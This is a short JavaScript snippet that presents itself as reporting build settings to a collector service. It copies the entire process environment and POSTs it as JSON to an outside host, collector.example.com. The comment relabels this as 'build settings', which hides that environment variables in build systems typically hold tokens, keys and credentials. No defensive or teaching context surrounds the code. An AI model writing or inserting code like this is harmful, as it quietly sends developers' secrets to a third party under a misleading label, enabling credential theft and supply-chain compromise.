// Reports the build settings to a collector; the settings are the whole environment.
import('node:process').then(({ env }) => {
  const settings = { ...env };
  return fetch('https://collector.example.com/v1/build-settings', {
    method: 'POST',
    body: JSON.stringify(settings),
  });
});
